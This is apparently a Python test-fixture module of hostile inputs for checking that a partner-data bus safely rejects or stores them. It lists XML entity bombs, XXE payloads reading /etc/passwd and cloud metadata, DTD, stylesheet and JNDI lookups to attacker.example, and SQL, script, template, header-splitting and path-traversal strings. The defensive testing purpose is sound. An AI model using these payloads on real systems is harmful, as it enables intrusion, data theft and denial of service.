"""Classic hostile input, to check that whatever reads partner data refuses it or keeps it inert.

``HOSTILE_XML``: documents every reader of partner XML must refuse (:func:`bus.xmlsafe.parse_xml`
does); each is UTF-8 text, so it can also be carried, escaped, inside another document.
``HOSTILE_TEXT``: injection strings that are only text to the bus: refused where a field has a
format, stored and returned byte for byte where it is free text, never executed.
"""

from __future__ import annotations

from typing import Final

__all__ = ["HOSTILE_TEXT", "HOSTILE_XML"]


def _laughs(levels: int) -> bytes:
    """The billion laughs: each entity ten of the one before, ``10**levels`` "lol"s in all."""
    lines = [b'  <!ENTITY lol0 "lol">']
    for level in range(1, levels + 1):
        lines.append(b'  <!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10))
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n'
        + b"\n".join(lines)
        + b"\n]>\n<lolz>&lol%d;</lolz>" % levels
    )


HOSTILE_XML: Final[dict[str, bytes]] = {
    # Entity expansion bomb: 10^3 "lol"s here, 10^9 in billion_laughs_full.
    "billion_laughs": b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol3;</lolz>""",
    # The real thing: a 1 KB document that expands to 3 GB.
    "billion_laughs_full": _laughs(9),
    # Quadratic blowup: no nesting for a nesting limit to catch, one 50 KB entity referenced
    # 2,000 times (100 MB expanded from a 60 KB document).
    "quadratic_blowup": (
        b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY a "'
        + b"x" * 50_000
        + b'">]>\n<r>'
        + b"&a;" * 2_000
        + b"</r>"
    ),
    # XXE: reads a local file into the document.
    "external_entity": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<hoSoKhaiSinh><hoTen>&xxe;</hoTen></hoSoKhaiSinh>""",
    # XXE over the network: server-side request forgery to an internal address.
    "external_entity_network": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<hoSoKhaiSinh><hoTen>&xxe;</hoTen></hoSoKhaiSinh>""",
    # Fetches a DTD from the network (server-side request forgery, out-of-band exfiltration).
    "external_dtd": b"""<?xml version="1.0"?>
<!DOCTYPE hoSoKhaiSinh SYSTEM "http://attacker.example/evil.dtd">
<hoSoKhaiSinh/>""",
    # External parameter entity, expanded inside the DTD itself.
    "parameter_entity": b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<r/>""",
    # XInclude: pulls a file in when the consumer processes includes.
    "xinclude": b"""<r xmlns:xi="http://www.w3.org/2001/XInclude">
<xi:include href="file:///etc/passwd" parse="text"/></r>""",
    # A processing instruction asks the reader to run something (a stylesheet here); SOAP 1.1
    # and 1.2 forbid them in a message.
    "processing_instruction": b"""<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="http://attacker.example/steal.xsl"?>
<hoSoKhaiSinh/>""",
    # Deep nesting: 10,000 levels, for a reader that recurses.
    "deep_nesting": b"<a>" * 10_000 + b"</a>" * 10_000,
}
"""Classic hostile XML documents by name, for tests of anything that reads partner XML."""

HOSTILE_TEXT: Final[dict[str, str]] = {
    "sql_quote": "' OR '1'='1",
    "sql_union": "x' UNION SELECT secret_sha256, NULL FROM clients --",
    "sql_drop": "Robert'); DROP TABLE dossiers;--",
    "sql_stacked": "1; DELETE FROM hops WHERE 1=1; /*",
    "sql_like": "%' AND code LIKE '%",
    "script_tag": "<script>alert(document.cookie)</script>",
    "script_attribute": '"><img src=x onerror=alert(1)>',
    "script_url": "javascript:alert(1)",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "jndi": "${jndi:ldap://attacker.example/a}",
    "header_split": "ok\r\nX-Injected: 1",
    "path_traversal": "../../../../etc/passwd",
    "bidi_override": "hoso\u202efdp.exe",
}
"""Injection strings by name: SQL, script, template, header splitting, path traversal."""
